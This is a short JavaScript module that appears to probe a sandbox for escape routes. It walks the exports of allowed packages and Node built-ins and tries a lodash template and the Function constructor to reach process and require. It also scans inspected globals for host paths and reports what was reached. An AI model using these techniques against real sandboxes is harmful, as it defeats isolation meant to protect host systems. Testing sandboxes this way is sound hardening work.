// Everything that allowed packages and built-ins export, walked for the host: constructors, code from
// text, getters, prototypes.
const { plunder } = require('./plunder.js');

async function execute(params) {
  const names = ['lodash', 'dayjs', 'axios', 'zod', 'cheerio', 'yaml', 'uuid', 'assert', 'buffer', 'crypto', 'events', 'path', 'querystring', 'stream', 'stream/promises', 'string_decoder', 'timers', 'timers/promises', 'url', 'util', 'util/types', 'zlib'];
  const roots = [];
  for (const name of names) roots.push(require(name), (await import(name)).default);
  const _ = require('lodash');
  const made = _.template('<% var p = typeof process + typeof castellan + typeof module %><%= p %>')();
  const run = _.attempt(() => _.constructor.constructor('return typeof process + typeof require')());
  const util = require('util');
  for (const value of [util.inspect(globalThis), String(_), util.format('%O', require('stream')), new (require('events'))().on.toString()]) {
    if (/\/(?:home|root|work|usr)\/|node:internal/.test(value)) roots.push(value);
  }
  const text = [made, run].filter((each) => each !== 'undefinedundefinedundefined' && each !== 'undefinedundefined');
  const report = plunder(roots, params);
  return { tried: report.tried, reached: [...report.reached, ...text] };
}
